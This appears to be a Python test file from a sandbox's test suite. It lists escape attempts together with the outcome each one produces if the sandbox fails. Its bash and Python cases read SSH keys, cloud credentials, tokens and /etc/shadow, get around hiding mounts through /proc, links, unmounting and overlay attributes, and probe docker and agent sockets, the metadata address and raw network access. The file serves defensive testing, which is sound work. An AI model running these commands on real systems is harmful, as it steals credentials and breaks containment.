"""Attacks on secrets, and on every line to somebody outside."""

from dataclasses import replace

from tests.sandbox.attacks.attack import TIGHT, bash, python

ATTACKS = (
    bash(
        "secrets by their paths",
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.bash_history ~/.config/gh/hosts.yml",
        outside="a secret leaked",
    ),
    bash(
        "secrets by links",
        "cat link/id_ed25519 real-config/gh/hosts.yml; ln .netrc n; cat n; ln -s .ssh t; cat t/*; cat .ssh/../.ssh/id_ed25519",
        outside="a secret leaked",
    ),
    bash(
        "secrets moved, copied, opened up",
        "chmod -R 777 .ssh .aws; cat .ssh/*; cp -r .aws a; cat a/*; mv .ssh s; cat s/*; mv .netrc m; cat m",
        outside="a secret leaked",
    ),
    bash(
        "secrets after unmounting what hides them",
        "umount -l .ssh ~ .netrc; rmdir .ssh; rm -rf .ssh; mkdir .ssh; cat .ssh/*; rm .netrc; cat .netrc; git init -q . ; cat .ssh/id_ed25519",
    ),
    bash(
        "secrets through /proc",
        'for p in /proc/[0-9]* /proc/self; do cat $p/environ "$p/root$HOME/.netrc" "$p/cwd/.netrc" "$p/cwd/.ssh/id_ed25519"; done; for f in /proc/*/fd/*; do case $(readlink $f) in pipe*) ;; *) cat $f;; esac; done < /dev/null',
        settings=replace(TIGHT, wall_s=3),
    ),
    bash("secrets in the environment", "env; export -p; tr '\\0' '\\n' < /proc/$$/environ; echo $GITHUB_TOKEN", outside="a secret leaked"),
    bash(
        "secrets by searching everything",
        "grep -r CANARY ~ ; find ~ -type f -exec cat {} +; tar c ~ | grep -a CANARY; cat /etc/shadow /etc/gshadow /etc/sudoers",
        outside="a secret leaked",
    ),
    python(
        "secrets by descriptors of directories",
        """
for flags in (os.O_RDONLY, os.O_PATH):
    folder = os.open(".ssh", flags | os.O_DIRECTORY)
    try: print(os.read(os.open("id_ed25519", os.O_RDONLY, dir_fd=folder), 99))
    except OSError as error: print(error)
os.chdir(".ssh")
print(os.listdir("."), os.listdir(".."))
print(open("/proc/self/cwd/id_ed25519").read() if os.path.exists("id_ed25519") else "")
""",
        outside="a secret leaked",
    ),
    python(
        "secrets by removing the mark that hides them",
        """
for name in ("user.overlay.opaque", "user.overlay.overlay.opaque", "trusted.overlay.opaque"):
    quietly(os.removexattr, ".ssh", name)
    quietly(os.setxattr, ".ssh", name, b"n")
os.rename(".ssh", "moved")
for folder in (".ssh", "moved"):
    try: print([open(f"{folder}/{name}").read() for name in os.listdir(folder)])
    except OSError as error: print(error)
""",
    ),
    bash("a connection to the host", "exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo ESCAPED", outside="connected: tcp"),
    python(
        "a connection to the socket of an agent",
        "client = socket.socket(socket.AF_UNIX)\nattempt('connect', lambda: client.connect('@HOME@/agent.sock') or 1)",
        outside="connected: unix",
    ),
    python(
        "a connection to an abstract socket",
        "client = socket.socket(socket.AF_UNIX)\nattempt('connect', lambda: client.connect('\\0@ABSTRACT@') or 1)",
        outside="connected: abstract",
    ),
    python(
        "an agent by links and descriptors",
        """
os.link("agent.sock", "hard.sock")
os.symlink("agent.sock", "soft.sock")
handle = os.open("agent.sock", os.O_PATH)
for path in ("hard.sock", "soft.sock", f"/proc/self/fd/{handle}", "/proc/self/cwd/agent.sock", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        attempt(path, lambda: socket.socket(socket.AF_UNIX, kind).connect(path) or 1)
os.rename("agent.sock", "moved.sock")
attempt("moved", lambda: socket.socket(socket.AF_UNIX).connect("moved.sock") or 1)
""",
        outside="connected: unix",
    ),
    python(
        "names and packets to anywhere",
        """
attempt("udp", lambda: socket.socket(2, 2).sendto(b"x", ("192.0.2.1", 53)))
attempt("udp6", lambda: socket.socket(10, 2).sendto(b"x", ("2001:db8::1", 53)))
attempt("broadcast", lambda: socket.socket(2, 2).sendto(b"x", ("255.255.255.255", 9)))
attempt("name", lambda: len(socket.gethostbyname("example.com")))
for address in ("192.0.2.1", "127.0.0.1", "0.0.0.0", "169.254.169.254"):
    for port in (22, @PORT@):
        attempt(f"tcp {address}", lambda: socket.create_connection((address, port), 0.2).fileno())
attempt("netlink", lambda: socket.socket(16, 3, 9).sendto(bytes([20, 0, 0, 0, 0xE9, 3, 5, 0] + [0] * 12), (0, 0)) if os.getuid() + 1 and False else -1)
""",
    ),
    python(
        "a network interface of its own",
        """
import struct
plain = socket.socket()
attempt("ifconfig", lambda: fcntl.ioctl(plain, 0x8916, struct.pack("16sH2x4s8x", b"lo", 2, bytes([10, 0, 0, 1]))) and 1)
attempt("route", lambda: fcntl.ioctl(plain, 0x890B, bytes(120)) and 1)
attempt("bridge", lambda: fcntl.ioctl(plain, 0x89A0, b"vx0" + bytes(13)) and 1)
attempt("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
""",
    ),
)
